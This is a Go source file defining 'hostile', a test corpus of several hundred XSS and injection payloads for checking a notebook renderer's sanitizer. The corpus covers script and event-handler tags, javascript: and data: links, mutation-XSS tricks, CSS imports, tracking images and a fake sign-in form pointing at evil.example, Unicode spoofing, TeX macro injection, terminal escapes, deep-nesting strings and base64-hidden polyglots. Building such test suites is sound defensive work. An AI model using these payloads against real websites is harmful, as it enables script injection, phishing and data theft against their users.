package render

import (
	"encoding/base64"
	"strings"
)

// hostile is a growing corpus: every family of attack on a page that shows what a student wrote. Each entry is put into
// every place of a notebook (see everywhere).
var hostile = append([]string{
	// Scripts, in the forms that filters overlook.
	`<script>alert(1)</script>`, `<ScRiPt src=//evil.example/x.js></sCrIpT>`, `<script/x>alert(1)</script>`,
	`<scr<script>ipt>alert(1)</scr</script>ipt>`, "<script\x00>alert(1)</script>", `<script>alert(1)`, `</script><script>alert(1)</script>`,
	`<noscript><p title="</noscript><img src=x onerror=alert(1)>">`, `<template><script>alert(1)</script></template>`,
	`<!--><script>alert(1)</script-->`, `<!--[if gte IE 4]><script>alert(1)</script><![endif]-->`, `<![CDATA[<script>alert(1)</script>]]>`,
	`<?xml version="1.0"?><script>alert(1)</script>`, `<xmp><script>alert(1)</script></xmp>`, `<plaintext><script>alert(1)`,

	// Event handlers.
	`<img src=x onerror=alert(1)>`, `<img src="x" onerror="alert(1)"//`, `<img/src=x/onerror=alert(1)>`, "<img src=x\nonerror\n=\nalert(1)>",
	`<body onload=alert(1)>`, `<p onmouseover="alert(1)">x</p>`, `<details open ontoggle=alert(1)>x</details>`, `<b onfocus=alert(1) tabindex=0 autofocus>`,
	`<a href="#" onclick=alert(1)>x</a>`, `"><img src=x onerror=alert(1)>`, `' onmouseover='alert(1)`, `" autofocus onfocus="alert(1)`,
	`<video><source onerror=alert(1)></video>`, `<audio src=x onerror=alert(1)>`, `<input autofocus onfocus=alert(1)>`,
	`<marquee onstart=alert(1)>x</marquee>`, `<td onclick=alert(1)>`, "`<img src=x onerror=alert(1)>`",

	// Addresses.
	`[x](javascript:alert(1))`, `[x](JaVaScRiPt:alert(1))`, `[x](java&#x0A;script:alert(1))`, `[x](&#106;avascript:alert(1))`,
	"[x](java\tscript:alert(1))", "[x](\x01javascript:alert(1))", `[x](vbscript:x)`, `[x](data:text/html,<script>alert(1)</script>)`,
	`[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)`, `<javascript:alert(1)>`, `[x]: javascript:alert(1)` + "\n\n[x]",
	`<a href="javascript&colon;alert(1)">x</a>`, `<a href=" &#14; javascript:alert(1)">x</a>`, `<a href="jav&#x09;ascript:alert(1)">x</a>`,
	`<a href="//evil.example">x</a>`, `<a href="/\evil.example">x</a>`, `<a href="http://a b">x</a>`, `<a href="file:///etc/passwd">x</a>`,
	`<a href="blob:https://x/y">x</a>`, `<a href="view-source:javascript:alert(1)">x</a>`, `[x](http://a@evil.example/%00)`, `[x](attachment:x.png)`,
	`![x](http://evil.example/track.gif)`, `![x](//evil.example/track.gif)`, `![x](javascript:alert(1))`, `![x](data:image/svg+xml;base64,PHN2Zz4=)`,
	`![x](data:text/html;base64,PHNjcmlwdD4=)`, `![x](data:image/png;base64,"onerror="alert(1))`, `<img srcset="http://evil.example/x 1x">`,
	`<img src="data:image/png;base64,iVBORw0KGgo=" onload=alert(1)>`, `![](attachment:x.png" onerror="alert(1))`, `![a](attachment:../../../etc/passwd)`,
	`![a](attachment:lectern-embedded/0) ![b](attachment:lectern-embedded/-1) ![c](attachment:lectern-embedded/99999999999999999999)`,

	// Foreign content and its mutations.
	`<svg onload=alert(1)>`, `<svg><script>alert(1)</script></svg>`, `<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>`,
	`<svg><foreignObject><iframe src=javascript:alert(1)></foreignObject></svg>`, `<svg><animate onbegin=alert(1) attributeName=x>`,
	`<svg><use href="data:image/svg+xml,<svg id=x><script>alert(1)</script></svg>#x">`, `<svg><style><img src="</style><img src=x onerror=alert(1)>">`,
	`<math href="javascript:alert(1)">x</math>`, `<math><maction actiontype="statusline#http://evil.example" xlink:href="javascript:alert(1)">x</maction></math>`,
	`<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">`,
	`<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>`, `<math><annotation-xml encoding="text/html"><script>alert(1)</script></annotation-xml></math>`,
	`<math><mi//xlink:href="data:x,<script>alert(1)</script>">`, `<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">`,
	`<math><mtext><option><FAKEFAKE><option></option><mglyph><svg><mtext><style><a title="</style><img src='#' onerror='alert(1)'>">`,

	// Styles, frames, forms and what changes the page around it.
	`<style>@import "//evil.example/x.css"; body{display:none}</style>`, `<p style="position:fixed;inset:0;background:url(//evil.example)">x</p>`,
	`<link rel=stylesheet href=//evil.example/x.css>`, `<meta http-equiv="refresh" content="0;url=//evil.example">`, `<base href="//evil.example/">`,
	`<form action="//evil.example"><input name=p><button>Sign in</button></form>`, `<button formaction=javascript:alert(1)>x</button>`, `<input type=image src=x onerror=alert(1)>`,
	`<iframe srcdoc="<script>alert(1)</script>"></iframe>`, `<iframe src=javascript:alert(1)></iframe>`, `<object data="data:text/html,<script>alert(1)</script>"></object>`,
	`<embed src="//evil.example/x.swf">`, `<portal src=//evil.example>`, `<frameset onload=alert(1)>`, `<dialog open>x</dialog>`, `<p popover id=x>x</p>`,
	`<p id="cell-1" name="attributes" class="nb-points">10 points</p>`, `<img name=getElementById>`, `<a id=defaultView href=x>x</a>`, `<slot name=x>`, `<p slot=x is=y part=z>x</p>`,
	`</div></section></article><h1>Full marks</h1>`, `</code></pre></section><section class="nb-cell">`, `<table><tr><td></table></div></section>`, `</p></div></div></div>`,
	`<img src='//evil.example/?`, `<a href="http://evil.example/`, `<textarea>`, `<title>`, `<select><option>`, `<!--`, `<p title="`, `<`, `&`, `&#0;&#x110000;&lt;script&gt;`,

	// Text that pretends.
	"\u202e}txet desrever{\u202c", "\u2066\u2067\u2068\u2069", "if access != 'user\u202e \u2066// admin\u2069 \u2066' {", "\ufeff<script>alert(1)</script>",
	"<\u0073cript>alert(1)</script>", "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e", "\xff\xfe<script>\xc0\xbc", "\x00\x01\x02\x1f\x7f\u0085\u2028\u2029", "<img src=x \u00a0onerror=alert(1)>",
	"\ue0000\ue001 \ue000-1\ue001 \ue00099\ue001 \ue000", "![\ue0000\ue001](attachment:\ue0000\ue001)", "<b title=\"\ue0000\ue001\">\ue000", "$a$\ue0000\ue001",

	// TeX.
	`\href{javascript:alert(1)}{x}`, `\url{javascript:alert(1)}`, `\htmlClass{x" onclick="alert(1)}{y}`, `\htmlStyle{position:fixed}{x}`, `\htmlId{x}{y}`, `\htmlData{a=b}{c}`,
	`\includegraphics{http://evil.example/x.png}`, `\text{<script>alert(1)</script>}`, `\text{</math></span><img src=x onerror=alert(1)>}`, `\def\a{\a\a}\a`, `\gdef\frac{x}\frac12`,
	`\color{red;background:url(//evil.example)}x`, `\color{"onclick="alert(1)}x`, `\rule{99999em}{99999em}`, `\raisebox{-9999em}{x}`, `\kern-9999em x`, `\label{"><script>}\ref{"><script>}`,
	`\begin{align}<img src=x onerror=alert(1)>\end{align}`, `\tag{</mtext><script>alert(1)</script>}x`, `\unicode{x3c}script\unicode{x3e}`, `\mathrm{\char"3C script}`, `\class{x}{\style{color:red}{y}}`,
	`\operatorname{<img>}`, `\toggle{a}{b}\endtoggle`, `\texttip{a}{<script>}`, `<math>$x$</math>`, `<b title="$x$">$x$</b>`, `<a href="http://x/$x$">$x$</a>`, `<img alt="$x$" src="$x$">`, "`$x$` <code>$x$</code> <pre>$x$</pre>",
	`<table>$x$<tr>$x$<td>$x$</table>`, `<div $x$>`, `<$x$>`, `</$x$>`, `\(<script>\) \[<script>\] \\(<b>\\)`, "$$\\begin{matrix}" + strings.Repeat("{", 500) + "$$",
	`\constructor \__proto__ \hasOwnProperty \toString \valueOf`, `\begin{__proto__}x\end{__proto__}`, `\begin{constructor}x\end{constructor}`, `\newcommand{\__proto__}{x}\__proto__`,
	`$\newcommand{\R}{\href{javascript:alert(1)}{x}}$ $\R$`, `$\def\x{<script>}$ $\x$`, `$\def\x#1{\x{\x{#1}}}$ $\x1$`, `$\newcommand{\"><script>}{x}$`, `$\def\$ $\newcommand{$ $\newcommand{\a}[9]{`,

	// Terminals.
	"\x1b]8;;javascript:alert(1)\x07click\x1b]8;;\x07", "\x1b]0;<script>alert(1)</script>\x07", "\x1b[31m<script>alert(1)</script>\x1b[0m", "\x1b[38;2;1;2;3m\"><img src=x onerror=alert(1)>",
	"\x1b[38;5;999999999999999999999999m<b>", "\x1b[" + strings.Repeat("1;", 500) + "m<b>", "\x1b[<script>m", "\x1b", "\x1b[", "\x1b]", "\x1bP<script>\x1b\\", "a\r<\b\b\b<b>\x1b[2K\x1b[1K\x1b[K", "\u009b31m<b>",

	// Tables that are more than tables.
	`<table><tr><td><script>alert(1)</script></td></tr></table>`, `<table><style>x</style><tr><td>x</td></tr></table>`, `<style scoped><img src=x onerror=alert(1)></style><table><tr><td>x</td></tr></table>`,
	`<style scoped></style><script>alert(1)</script><table><tr><td>x</td></tr></table>`, `<table><tr><td><table><tr><td>x</td></tr></table></td></tr></table>`, `<table onclick=alert(1)><tr><td style="x">y</td></tr></table>`,
	`<table><tr><td colspan=99999999 rowspan="-1">x</td></tr></table>`, `<table><tr><td><a href="javascript:alert(1)">x</a></td></tr></table>`, `<div><table></div></table>`, `<table><caption><svg/onload=alert(1)></caption></table>`,
	`<table><tr><td></tr></td></table>`, `<table><tr><td><p><table></td></tr></table>`, `<table><tr><td><b></td></b></tr></table>`, `<table>x<tr><td>y</td></tr></table>`,

	// Deep and long.
	strings.Repeat("> ", 600) + "x", strings.Repeat("<div>", 600), strings.Repeat("<b><i>", 300), strings.Repeat("[", 1000), strings.Repeat("- ", 300) + "x", strings.Repeat("*a **a ", 200), strings.Repeat("<table><tr><td>", 200),
	strings.Repeat("![x](", 300), strings.Repeat("`", 999), strings.Repeat("<b>$x$<p>", 50),
},
	// Hidden in base64, where output types expect it.
	base64.StdEncoding.EncodeToString([]byte(`<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>`)),
	base64.StdEncoding.EncodeToString([]byte("\x89PNG\r\n\x1a\n<script>alert(1)</script>")),
	base64.StdEncoding.EncodeToString([]byte("GIF89a/*\x01\x00*/=alert(1)//")),
)
